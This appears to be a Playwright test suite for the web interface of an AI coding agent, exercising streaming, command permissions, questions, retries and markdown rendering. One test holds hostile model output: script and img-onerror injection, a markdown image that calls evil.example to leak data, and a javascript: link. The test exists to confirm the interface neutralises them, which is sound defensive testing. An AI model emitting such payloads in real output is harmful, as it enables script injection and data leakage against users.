/** Words to and from the agent: streamed, asked, answered, stopped, and there again after a reload. */
import { look } from '../fixtures/look.ts';
import { freshSession, newSession, Talk, wordsOf } from '../fixtures/talk.ts';
import { expect, test } from '../fixtures/test.ts';
import { counting } from '../model/words.mjs';

/** A name for a gate that no other test uses: the model is shared by the tests of a worker. */
const gateName = (info: { testId: string; project: { name: string } }, place: string) => `${place}-${info.project.name}-${info.testId}`;

test('the whole way: new session, streamed answer, a command allowed, a question answered, a turn stopped, a reload', async ({
  owner: page,
  opencode,
  model,
}, info) => {
  const talk = await newSession(page, opencode.directory);
  await look(page, 'session-empty');

  await test.step('the answer streams', async () => {
    const gate = gateName(info, 'middle');
    await talk.say(`Read me the log [[say "The first words. "]] [[gate ${gate}]] [[say "The last words."]]`);
    await model.gates.reached(gate);
    await talk.expectAnswer('The first words.');
    await talk.expectNoAnswer('The last words.');
    await expect(talk.stop).toBeVisible();
    model.gates.open(gate);
    await talk.expectAnswer('The first words. The last words.');
    await talk.expectQuiet();
  });

  await test.step('a command asks and is allowed', async () => {
    await talk.say('[[bash cmd="echo tide is $((40 + 2))"]] [[say "The command ran."]]');
    await expect(talk.permission).toContainText('echo tide is $((40 + 2))');
    await look(page, 'session-permission');
    await talk.permission.getByRole('button', { name: 'Allow once' }).click();
    await expect(talk.permission).toBeHidden();
    await talk.expectAnswer('The command ran.');
  });

  await test.step('a question is answered', async () => {
    await talk.say('[[question]] [[say "Thank you for the answer."]]');
    await expect(talk.question).toContainText('Which station shall I look at?');
    await look(page, 'session-question');
    await talk.question.getByRole('radio', { name: /South pier/ }).check();
    await talk.question.getByRole('button', { name: 'Answer' }).click();
    await expect(talk.question).toBeHidden();
    await talk.expectAnswer('Thank you for the answer.');
  });

  await test.step('a running turn is stopped', async () => {
    const gate = gateName(info, 'hanging');
    await talk.say(`[[say "I begin and "]] [[gate ${gate}]] [[hang]]`);
    await model.gates.reached(gate);
    await talk.expectAnswer('I begin and');
    await look(page, 'session-running');
    await talk.stop.click();
    await talk.expectQuiet();
    await talk.expectAnswer(/stopped/i);
    // OpenCode says that it is idle before it closes the message; then the turn has its foot, as the three before.
    await expect(talk.answers.filter({ hasText: /^scripted-1/ })).toHaveCount(4);
  });

  await test.step('a reload shows the same', async () => {
    const before = await wordsOf(talk.log);
    await talk.reload();
    await expect.poll(() => wordsOf(talk.log)).toBe(before);
  });

  await test.step('the session has its title in the list', async () => {
    await expect(page).toHaveTitle(/Read me the log/);
  });
});

test('of a long quick answer no word is lost and none is doubled', async ({ owner: page, opencode }) => {
  const talk = await freshSession(page, opencode, 'Counting');
  await talk.say('[[count to=1500 every=1ms]]');
  await talk.expectAnswer(counting(1500));
});

test('a denied command does not run and the turn ends', async ({ owner: page, opencode }) => {
  const talk = await freshSession(page, opencode, 'No by hand');
  await talk.say('[[bash cmd="touch should-not-exist"]] [[say "Never said."]]');
  const tool = talk.log.locator('summary').filter({ hasText: 'touch should-not-exist' });
  await expect(tool).toContainText('Waits for you');
  await talk.permission.getByRole('button', { name: 'Deny' }).click();
  await expect(talk.permission).toBeHidden();
  await talk.expectQuiet();
  await talk.expectNoAnswer('Never said.');
  await expect(tool).toContainText('Denied');
  await tool.click();
  await talk.expectAnswer('You did not allow it.');
  await talk.expectNoAnswer('The user rejected permission');
  const files = JSON.stringify(await opencode.ask('/file?path=.'));
  expect(files).not.toContain('should-not-exist');
});

test('a question can be skipped, and several answers can be given where several are asked for', async ({ owner: page, opencode }) => {
  const talk = await freshSession(page, opencode, 'Questions');
  await talk.say('[[question many]] [[say "Both it is."]]');
  await talk.question.getByRole('checkbox', { name: /North pier/ }).check();
  await talk.question.getByRole('checkbox', { name: /Outer buoy/ }).check();
  await talk.question.getByRole('button', { name: 'Answer' }).click();
  await talk.expectAnswer('Both it is.');
  const asked = talk.log.locator('summary').filter({ hasText: /^\s*Ask/ });
  await expect(asked).toContainText('North pier, Outer buoy');
  await asked.click();
  await expect(talk.log.locator('details[open]').getByRole('definition')).toHaveText('North pier, Outer buoy');
  await talk.expectNoAnswer('User has answered your questions');

  await talk.say('[[question]] [[say "Never said."]]');
  await talk.question.getByRole('button', { name: 'Skip' }).click();
  await expect(talk.question).toBeHidden();
  await talk.expectQuiet();
  await talk.expectNoAnswer('Never said.');
  await expect(asked.last()).toContainText('Not answered');
});

test('an agent that works and has nothing to show says so', async ({ owner: page, opencode, model }, info) => {
  const talk = await freshSession(page, opencode, 'Working');
  const gate = gateName(info, 'silent');
  await talk.say(`Think it over [[gate ${gate}]] [[say "Thought over."]]`);
  await model.gates.reached(gate);
  const working = talk.log.locator('.working');
  await expect(working).toHaveText(/^Working\s*\d+ s$/);
  await talk.reload();
  await expect(working).toBeVisible();
  await look(page, 'session-working');
  model.gates.open(gate);
  await talk.expectAnswer('Thought over.');
  await talk.expectQuiet();
  await expect(working).toHaveCount(0);
});

test('a refusal of the provider is said as what it is, and the session goes on', async ({ owner: page, opencode }) => {
  const talk = await freshSession(page, opencode, 'Refused');
  await talk.say('[[error 400 message="The harbour is closed today."]]');
  await talk.expectAnswer('The harbour is closed today.');
  await talk.expectQuiet();
  await look(page, 'session-failed');
  await talk.say('[[say "Open again."]]');
  await talk.expectAnswer('Open again.');
});

test('a provider that is busy is shown as tried again, and then it answers', async ({ owner: page, opencode }, info) => {
  const talk = await freshSession(page, opencode, 'Retried');
  await talk.say(`${info.project.name} asks [[retry 429 times=1 after=4]] [[say "At last."]]`);
  await expect(page.getByText(/again|retry/i).first()).toBeVisible();
  await talk.expectAnswer('At last.');
});

test('thinking is folded away, tools are rows, and markdown is drawn as what it means', async ({ owner: page, opencode }) => {
  const talk = await freshSession(page, opencode, 'Everything');
  await talk.say(
    '[[think "A thought that stays folded."]] [[todo]] [[read path="README.md"]]&[[glob pattern="src/*"]] [[task prompt="Look [[say seen]]" desc="Look around"]] [[markdown]]',
  );
  await expect(talk.log.getByRole('heading', { name: 'What the gauge module does' })).toBeVisible();
  await talk.expectQuiet();
  const thought = talk.answers.getByText('A thought that stays folded.');
  await expect(thought).toBeHidden();
  await expect(talk.log.getByRole('table')).toContainText('North pier');
  await expect(talk.log.getByRole('link', { name: /harbour office/ })).toHaveAttribute('rel', /noopener/);
  await talk.expectAnswer(/Explored\s*1 file, 1 search/);
  await look(page, 'session-rich');
  await talk.answers.getByText(/^Thought/).click();
  await expect(thought).toBeVisible();
});

test('what the model prints stays text: no markup, no script, no picture from elsewhere', async ({ owner: page, opencode, nexus }) => {
  const talk = await freshSession(page, opencode, 'Hostile');
  await talk.say(
    String.raw`[[say "Before <img src=x onerror=\"document.title='owned'\"> <script>document.title='owned'</script> ![leak](https://evil.example/a.png?x=1) [click](javascript:alert(1)) after."]]`,
  );
  await talk.expectAnswer('after.');
  await talk.expectQuiet();
  await expect(page).not.toHaveTitle(/owned/);
  expect(await talk.log.locator('img[src^="http"], script, a[href^="javascript:"]').count()).toBe(0);
  expect(new URL(page.url()).origin).toBe(nexus.url);
});

test('an unsent draft survives a reload', async ({ owner: page, opencode }) => {
  const talk = await freshSession(page, opencode, 'Draft');
  await talk.message.fill('Not yet sent');
  await talk.reload();
  await expect(new Talk(page).message).toHaveValue('Not yet sent');
});
